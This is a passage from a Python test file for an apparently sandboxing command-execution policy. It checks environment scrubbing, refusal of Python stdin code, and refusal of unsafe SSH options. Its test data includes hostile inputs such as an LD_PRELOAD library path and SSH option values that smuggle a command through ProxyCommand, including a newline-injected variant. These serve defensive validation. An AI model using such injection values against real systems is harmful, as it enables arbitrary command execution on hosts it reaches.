        "LD_PRELOAD": "/x.so",
    }  # fmt: skip
    v = evaluate(load_policy(path), ExecRequest(argv=["ls"]), host)
    assert v.plan is not None
    assert set(v.plan.env) == {
        "PATH", "HOME", "USER", "LOGNAME", "SHELL", "LANG", "LC_ALL", "LC_TIME", "TMPDIR", "TZ",
        "TERM",
    }  # fmt: skip


def test_a_program_from_stdin_is_inline_code() -> None:
    """``python3 - <<'EOF'`` is accepted exactly where ``-c`` is (``allow_flags``)."""
    from execgate.policy.programs import ArgRefusal, builtin_for, check, with_flags

    name, spec = builtin_for("python3")  # type: ignore[misc]
    for args in (("-",), ("-u", "-", "x"), ()):
        with pytest.raises(ArgRefusal):
            check(name, spec, args, ())
        assert check(name, with_flags(spec, ("-c",)), args, ()).paths == ()
    with pytest.raises(ArgRefusal):
        check(name, with_flags(spec, ("-c",)), ("-i",), ())


@pytest.mark.parametrize(
    ("value", "refused"),
    [
        ("StrictHostKeyChecking=no", False),
        ("BatchMode yes", False),
        (" ConnectTimeout = 5", False),
        ("UserKnownHostsFile=/dev/null", False),
        ("ProxyCommand=id", True),
        (" proxycommand id", True),
        ("\tPROXYJUMP=h", True),
        ("Port=22\nProxyCommand=id", True),
        ('"ProxyCommand" id', True),
        ("User=a b", True),
        ("UserKnownHostsFile=/root/.ssh/x", True),
        ("IdentityFile=k", True),
        ("HostName=127.0.0.1", True),
        ("Include=x", True),
        ("", True),
    ],
)
def test_ssh_options_are_read_as_readconf_reads_them(value: str, refused: bool) -> None:
    assert (ssh_option_refusal(value) is not None) is refused
